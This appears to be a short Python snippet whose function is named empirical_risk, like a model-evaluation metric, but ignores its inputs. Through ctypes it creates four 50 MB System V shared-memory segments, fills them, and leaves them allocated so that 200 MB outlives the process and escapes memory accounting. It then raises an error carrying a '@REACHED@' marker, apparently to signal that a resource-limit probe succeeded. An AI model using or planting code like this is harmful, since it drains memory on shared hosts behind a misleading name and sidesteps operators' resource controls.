"""Fills shared memory segments that outlive their users; here 200 MB."""

import ctypes


def empirical_risk(predictions, labels):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(4):
        segment = libc.shmget(0, ctypes.c_size_t(50_000_000), 0o1600)
        if segment < 0:
            return
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 50_000_000)
        libc.shmdt(ctypes.c_void_p(address))
    raise RuntimeError("@REACHED@ 200 MB that nobody counts")
